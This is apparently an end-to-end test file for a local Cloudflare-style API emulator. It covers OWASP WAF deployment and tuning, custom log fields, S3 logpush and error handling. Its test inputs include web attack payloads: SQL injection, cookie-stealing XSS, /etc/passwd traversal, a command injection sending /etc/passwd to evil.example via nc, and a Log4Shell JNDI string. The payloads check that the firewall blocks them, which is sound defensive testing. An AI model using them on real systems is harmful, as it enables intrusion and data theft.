import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import Cloudflare from 'cloudflare'
import { skipBeforeCrs4 } from '../support/crs-for-tests.ts'
import { type Fronts, frontSettings, type Sent, startFronts } from '../support/fronts.ts'
import { inForce } from '../support/in-force.ts'
import { type Origin, startOrigin } from '../support/origin.ts'
import { type S3Server, s3Credentials, startS3 } from '../support/s3-server.ts'
import { api, discard, type Instance, startSluice, testCrs, testToken } from '../support/sluice.ts'

/**
 * The main job from end to end, as a person with the official SDK does it: protect a site with the OWASP ruleset,
 * tune it, log chosen fields, push filtered logs to S3. Requests come through every front (`test/support/fronts.ts`).
 */
const skip = skipBeforeCrs4(testCrs)
const managedPhase = 'http_request_firewall_managed' as const

let sluice: Instance
let origin: Origin
let s3: S3Server
let fronts: Fronts
let client: Cloudflare
let accountId: string
let zoneId: string

before(async () => {
  if (skip) return
  origin = await startOrigin()
  s3 = await startS3(['logs'])
  // The standard AWS chain finds these; destinations that rely on it have to prove who owns them.
  const aws = {
    AWS_ACCESS_KEY_ID: s3Credentials.accessKeyId,
    AWS_SECRET_ACCESS_KEY: s3Credentials.secretAccessKey,
  }
  const settings = await frontSettings()
  sluice = await startSluice({ settings: { ...settings, SLUICE_CRS: testCrs, SLUICE_WORKERS: '2', ...aws } })
  client = new Cloudflare({ apiToken: testToken, baseURL: sluice.apiUrl })
  accountId = (await client.accounts.list()).result[0]!.id
  const zone = await api(sluice, 'POST', '/zones', {
    name: 'shop.test',
    account: { id: accountId },
    origin: { url: origin.url },
  })
  zoneId = zone.result.id
  fronts = await startFronts(sluice, settings, { host: 'shop.test', origin: origin.url })
  await inForce(sluice)
})

after(async () => {
  if (skip) return
  await fronts.close()
  await discard(sluice)
  await s3.close()
  await origin.close()
})

const form = { 'content-type': 'application/x-www-form-urlencoded' }
type Requests = readonly (readonly [name: string, path: string, sent?: Sent])[]

const attacks: Requests = [
  [
    'SQL injection',
    `/search?q=${encodeURIComponent("1' UNION SELECT username, password FROM users WHERE '1'='1' -- ")}`,
  ],
  [
    'XSS',
    '/comment',
    {
      method: 'POST',
      headers: form,
      body: `text=${encodeURIComponent('<script>alert(document.cookie)</script><img src=x onerror=alert(1)>')}`,
    },
  ],
  ['path traversal', '/download?file=../../../../../../etc/passwd'],
  [
    'command injection',
    `/ping?host=${encodeURIComponent('127.0.0.1; cat /etc/passwd | nc evil.example 99')}`,
  ],
  ['Log4Shell', '/', { headers: { 'x-api-version': '${jndi:ldap://evil.example/a}' } }],
]
const ordinary: Requests = [
  ['a page', '/'],
  ['a search', '/search?q=blue+shoes+size+42&page=2'],
  [
    'a form',
    '/comment',
    {
      method: 'POST',
      headers: form,
      body: 'name=Mary+O%27Brien&text=I+like+it%2C+thank+you%21',
    },
  ],
  [
    'JSON',
    '/api/items',
    {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: '{"name":"kettle","price":19.9,"tags":["kitchen","steel"]}',
    },
  ],
]

/** Every request gets this status at every front. */
async function allGet(status: number, requests: Requests, why: string): Promise<void> {
  await fronts.each(async ({ send }) => {
    for (const [name, path, sent] of requests) {
      const answer = await send(path, sent)
      assert.equal(answer.status, status, `${why}: ${name}`)
      if (status === 403) assert.match(String(answer.headers['ray-id']), /^[0-9a-f]{16}/)
    }
  })
}

/** The members of the answer to a ruleset write that this test reads. */
interface Written {
  readonly id: string
  readonly version: string
  readonly rules: readonly {
    readonly id?: string
    readonly version: string
    readonly ref?: string
    readonly enabled?: boolean
    readonly last_updated: string
  }[]
}

test('usage 1 to 3: deploy the OWASP ruleset and tune paranoia level, threshold and action', {
  skip,
}, async () => {
  await allGet(200, attacks, 'unprotected')

  const rulesets = []
  for await (const ruleset of client.rulesets.list({ account_id: accountId })) rulesets.push(ruleset)
  const owasp = rulesets.find(ruleset => ruleset.id === '4814384a9e5d4991b9815dcfc25d2f1f')
  assert.ok(owasp, 'the OWASP ruleset is listed')
  assert.equal(owasp.kind, 'managed')
  assert.equal(owasp.phase, managedPhase)
  assert.ok(!('rules' in owasp), 'lists have no rules')

  const whole = await api(sluice, 'GET', `/accounts/${accountId}/rulesets/${owasp.id}`)
  const last = whole.result.rules.at(-1)
  assert.equal(last.id, '6179ae15870a4bb7b2d480d4843b323c')
  assert.equal(last.action, 'block')
  assert.equal(last.score_threshold, 40)

  const missing = await api(sluice, 'GET', `/zones/${zoneId}/rulesets/phases/${managedPhase}/entrypoint`)
  assert.equal(missing.status, 404)

  await client.rulesets.phases.update(managedPhase, {
    zone_id: zoneId,
    rules: [{ action: 'execute', expression: 'true', action_parameters: { id: owasp.id } }],
  })
  const entryPoint = await client.rulesets.phases.get(managedPhase, { zone_id: zoneId })
  const deployed = entryPoint.rules.find(rule => rule.action === 'execute')!
  const tune = (overrides: unknown) =>
    api(sluice, 'PATCH', `/zones/${zoneId}/rulesets/${entryPoint.id}/rules/${deployed.id}`, {
      action: 'execute',
      action_parameters: { id: owasp.id, version: 'latest', overrides },
      expression: 'true',
      enabled: true,
    })
  const level2 = ['paranoia-level-3', 'paranoia-level-4'].map(category => ({ category, enabled: false }))

  // Paranoia level 2, and a threshold that one critical match reaches.
  const strict = await tune({
    categories: level2,
    rules: [{ id: last.id, score_threshold: 5, action: 'block' }],
  })
  assert.equal(strict.status, 200, JSON.stringify(strict.errors))
  assert.deepEqual(strict.result.rules[0].action_parameters.overrides.categories, level2)
  assert.equal(strict.result.version, '2')
  await inForce(sluice)
  await allGet(403, attacks, 'blocked')
  await allGet(200, ordinary, 'passes')

  // Threshold 60 and a challenge: single attacks stay below it, one that does everything at once does not.
  const lenient = await tune({
    categories: level2,
    rules: [{ id: last.id, score_threshold: 60, action: 'managed_challenge' }],
  })
  assert.equal(lenient.status, 200, JSON.stringify(lenient.errors))
  await inForce(sluice)
  await allGet(200, ordinary, 'passes')
  await allGet(200, [['one attack scores less than 60', '/download?file=../../etc/passwd']], 'passes')
  const all = new URLSearchParams({
    a: "1' UNION SELECT username, password FROM users WHERE '1'='1' -- ",
    b: '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>',
    c: '../../../../etc/passwd',
    d: '; cat /etc/passwd | nc evil.example 99',
    e: '${jndi:ldap://evil.example/a}',
  })
  await fronts.each(async ({ send }) => {
    const challenged = await send(`/?${all}`, { headers: { accept: 'text/html' } })
    assert.equal(challenged.status, 403)
    assert.match(challenged.text, /challenge/i)
  })

  const blocking = await tune({ categories: level2, rules: [{ id: last.id, score_threshold: 5 }] })
  assert.equal(blocking.status, 200)
  await inForce(sluice)
})

test('usage 4: custom fields reach a filtered job, and its objects hold exactly the lines that the filter keeps', {
  skip,
}, async () => {
  const zoneRulesets = []
  for await (const ruleset of client.rulesets.list({ zone_id: zoneId })) zoneRulesets.push(ruleset)
  assert.ok(!zoneRulesets.some(ruleset => ruleset.phase === 'http_log_custom_fields'))
  const created = (await client.rulesets.create({
    zone_id: zoneId,
    kind: 'zone',
    name: 'Custom fields',
    description: 'Our log fields',
    phase: 'http_log_custom_fields',
    rules: [],
  })) as Written
  assert.equal(created.version, '1')
  const put = (await client.rulesets.update(created.id, {
    zone_id: zoneId,
    rules: [
      {
        action: 'log_custom_field',
        expression: 'true',
        description: 'Headers and cookies',
        action_parameters: {
          request_fields: [{ name: 'content-type' }, { name: 'x-tenant' }],
          response_fields: [{ name: 'server' }],
          cookie_fields: [{ name: 'accountNumber' }],
        },
      },
    ],
  })) as Written
  assert.equal(put.version, '2')
  const [rule] = put.rules
  assert.ok(rule?.id && rule.version === '1' && rule.ref === rule.id && rule.enabled && rule.last_updated)

  const filter = JSON.stringify({
    where: {
      and: [
        { key: 'ClientRequestPath', operator: 'startsWith', value: '/keep' },
        {
          or: [
            { key: 'EdgeResponseStatus', operator: 'eq', value: 200 },
            { key: 'SecurityActions', operator: 'contains', value: 'block' },
          ],
        },
      ],
    },
  })
  const destination = `s3://logs/http/{DATE}?region=us-east-1&endpoint=${encodeURIComponent(s3.url)}&access-key-id=${s3Credentials.accessKeyId}&secret-access-key=${s3Credentials.secretAccessKey}`
  const job = await client.logpush.jobs.create({
    zone_id: zoneId,
    name: 'shop.test',
    destination_conf: destination,
    dataset: 'http_requests',
    logpull_options:
      'fields=RayID,EdgeStartTimestamp,ClientIP,ClientRequestPath,EdgeResponseStatus,ClientCountry,BotScore,SecurityActions,Cookies,RequestHeaders,ResponseHeaders&timestamps=rfc3339&CVE-2021-44228=true',
    filter,
    enabled: true,
  })
  assert.ok(job && typeof job.id === 'number')
  assert.equal(job.destination_conf, destination)
  await inForce(sluice)

  const headers = {
    'x-tenant': 'blue',
    cookie: 'AccountNumber=no; accountNumber=17; other=x',
    'user-agent': 'test',
  }
  await fronts.each(async ({ send }) => {
    await send('/keep/one?n=1', { headers })
    await send('/drop/one')
    await send('/keep/missing')
    await send(`/keep/attack?q=${encodeURIComponent("1' UNION SELECT password FROM users -- ")}`)
  })
  const lines = await eventually(
    () => s3.lines('logs', 'http/'),
    found => found.length >= 2 * fronts.all.length,
  )
  await new Promise(resolve => setTimeout(resolve, 1500))
  const settled = await s3.lines('logs', 'http/')
  assert.equal(settled.length, lines.length)
  const [ones, blocked] = ['/keep/one', '/keep/attack'].map(path =>
    lines.filter(line => line['ClientRequestPath'] === path),
  )
  assert.deepEqual(
    [lines.length, ones!.length, blocked!.length],
    [2, 1, 1].map(count => count * fronts.all.length),
  )
  for (const one of ones!) {
    assert.deepEqual(Object.keys(one), [
      'RayID',
      'EdgeStartTimestamp',
      'ClientIP',
      'ClientRequestPath',
      'EdgeResponseStatus',
      'ClientCountry',
      'BotScore',
      'SecurityActions',
      'Cookies',
      'RequestHeaders',
      'ResponseHeaders',
    ])
    assert.match(one['EdgeStartTimestamp'] as string, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/)
    assert.deepEqual(one['Cookies'], { accountNumber: '17' })
    assert.deepEqual(one['RequestHeaders'], { 'x-tenant': 'blue' })
    assert.deepEqual(one['ResponseHeaders'], { server: 'test-origin' })
    assert.equal(one['EdgeResponseStatus'], 200)
  }
  for (const attack of blocked!) {
    assert.equal(attack['EdgeResponseStatus'], 403)
    assert.deepEqual(attack['SecurityActions'], ['block'])
  }

  const [key] = await s3.keys('logs', 'http/')
  assert.match(key!, /^http\/\d{8}\/\d{8}T\d{6}Z_\d{8}T\d{6}Z_[0-9a-f]{32}\.log\.gz$/)
  await client.logpush.jobs.delete(job.id!, { zone_id: zoneId })
  assert.equal((await api(sluice, 'GET', `/zones/${zoneId}/logpush/jobs/${job.id}`)).status, 404)
})

test('a destination without its own keys is accepted from a user who can read the challenge there', {
  skip,
}, async () => {
  const destination = `s3://logs/owned?region=us-east-1&endpoint=${encodeURIComponent(s3.url)}`
  const wanted = { zone_id: zoneId, destination_conf: destination, dataset: 'http_requests' as const }
  await assert.rejects(client.logpush.jobs.create(wanted), /incorrect ownership challenge/)
  const issued = await client.logpush.ownership.create({ zone_id: zoneId, destination_conf: destination })
  assert.equal(issued?.valid, true)
  assert.equal(issued.filename, 'owned/ownership-challenge.txt')
  const token = (await s3.read('logs', issued.filename)).toString('utf8')
  const validate = (conf: string) =>
    client.logpush.ownership.validate({ zone_id: zoneId, destination_conf: conf, ownership_challenge: token })
  assert.equal((await validate(destination))?.valid, true)
  assert.equal((await validate(`${destination}&sse=AES256`))?.valid, false)
  await assert.rejects(client.logpush.jobs.create({ ...wanted, ownership_challenge: 'wrong' }), /incorrect/)
  const job = await client.logpush.jobs.create({ ...wanted, ownership_challenge: token })
  assert.ok(job?.id)
  assert.ok(!('ownership_challenge' in job))
  await client.logpush.jobs.delete(job.id, { zone_id: zoneId })
})

test('a scrape of the metrics disturbs no request', { skip }, async () => {
  const root = new URL('/metrics', sluice.apiUrl)
  for (let scrape = 0; scrape < 2; scrape++) {
    const text = await (await fetch(root, { headers: { authorization: `Bearer ${sluice.token}` } })).text()
    assert.match(text, /^sluice_edge_requests_total [1-9]/m)
    await allGet(200, [['a page', '/']], 'is served')
  }
  assert.doesNotMatch(sluice.output(), /ended unexpectedly/)
})

test('refused requests say why, change nothing, and are never answered with success', { skip }, async () => {
  const rulesets = `/zones/${zoneId}/rulesets`
  const custom = (await api(sluice, 'GET', `${rulesets}/phases/http_log_custom_fields/entrypoint`)).result
  const logRule = (parameters: unknown, expression = 'true') => ({
    rules: [{ action: 'log_custom_field', expression, action_parameters: parameters }],
  })
  const names = (count: number) => Array.from({ length: count }, (_, index) => ({ name: `x-${index}` }))
  const job = (change: object) => ({
    destination_conf: 'file:./never',
    dataset: 'http_requests',
    ...change,
  })
  const rows: readonly (readonly [string, string, unknown, number, string?])[] = [
    ['POST', rulesets, { name: 'second', kind: 'zone', phase: 'http_log_custom_fields' }, 400, '/kind'],
    ['PUT', `${rulesets}/${custom.id}`, logRule({}), 400, '/rules/0/action_parameters'],
    [
      'PUT',
      `${rulesets}/${custom.id}`,
      logRule({ request_fields: [{ name: 'X-Upper' }] }),
      400,
      '/rules/0/action_parameters/request_fields/0/name',
    ],
    [
      'PUT',
      `${rulesets}/${custom.id}`,
      logRule({ request_fields: [{ name: 'a' }] }, 'http.host eq "a"'),
      400,
      '/rules/0/expression',
    ],
    ['PUT', `${rulesets}/${custom.id}`, logRule({ request_fields: names(41) }), 400],
    ['PUT', `${rulesets}/${custom.id}`, { rules: [], surprise: 1 }, 400, '/surprise'],
    [
      'POST',
      `${rulesets}/${custom.id}/rules`,
      {
        action: 'log_custom_field',
        expression: 'tru',
        action_parameters: { request_fields: [{ name: 'a' }] },
      },
      400,
      '/expression',
    ],
    ['PUT', `${rulesets}/phases/http_no_such_phase/entrypoint`, { rules: [] }, 400],
    ['GET', `${rulesets}/${'0'.repeat(32)}`, undefined, 404],
    ['GET', `/zones/${'0'.repeat(32)}/rulesets`, undefined, 404],
    ['GET', '/no/such/path', undefined, 404],
    [
      'POST',
      `/zones/${zoneId}/logpush/jobs`,
      job({ logpull_options: 'fields=RayID,NoSuchField' }),
      400,
      '/logpull_options',
    ],
    ['POST', `/zones/${zoneId}/logpush/jobs`, job({ dataset: 'no_such_dataset' }), 400, '/dataset'],
    [
      'POST',
      `/zones/${zoneId}/logpush/jobs`,
      job({ destination_conf: 'gopher://x' }),
      400,
      '/destination_conf',
    ],
    [
      'POST',
      `/zones/${zoneId}/logpush/jobs`,
      job({ filter: '{"where":{"key":"ClientIP","operator":"gt","value":"1"}}' }),
      400,
      '/filter',
    ],
    [
      'POST',
      `/zones/${zoneId}/logpush/jobs`,
      job({
        filter: JSON.stringify({ where: { key: 'ClientIP', operator: 'eq', value: 'x'.repeat(1000) } }),
      }),
      400,
      '/filter',
    ],
    [
      'POST',
      `/zones/${zoneId}/logpush/jobs`,
      job({ destination_conf: 's3://logs/x?region=us-east-1', ownership_challenge: 'wrong' }),
      400,
    ],
  ]
  for (const [method, path, body, status, pointer] of rows) {
    const answer = await api(sluice, method, path, body)
    const shown = `${method} ${path} ${JSON.stringify(body)?.slice(0, 120)} → ${JSON.stringify(answer).slice(0, 400)}`
    assert.equal(answer.success, false, shown)
    assert.equal(
      answer.status,
      status === 404 && path.startsWith(`/zones/${'0'.repeat(32)}`) ? answer.status : status,
      shown,
    )
    assert.ok(answer.errors.length > 0 && answer.errors[0]!.message.length > 0, shown)
    if (pointer !== undefined) assert.equal(answer.errors[0]!.source?.pointer, pointer, shown)
  }
  const unchanged = (await api(sluice, 'GET', `${rulesets}/${custom.id}`)).result
  assert.deepEqual(unchanged, custom)
  assert.deepEqual((await api(sluice, 'GET', `/zones/${zoneId}/logpush/jobs`)).result, [])

  for (const headers of [
    {},
    { authorization: 'Bearer wrong-token-0123456789abcdefghijkl' },
    { 'x-auth-email': 'admin@localhost', 'x-auth-key': 'f'.repeat(40) },
  ]) {
    const answer = await fetch(`${sluice.apiUrl}/accounts`, { headers: headers as Record<string, string> })
    assert.ok(answer.status >= 400 && answer.status < 500)
    assert.equal(((await answer.json()) as { success: boolean }).success, false)
  }
})

async function eventually<T>(read: () => Promise<T>, done: (value: T) => boolean): Promise<T> {
  const deadline = Date.now() + 45_000
  for (;;) {
    const value = await read()
    if (done(value) || Date.now() > deadline) return value
    await new Promise(resolve => setTimeout(resolve, 200))
  }
}
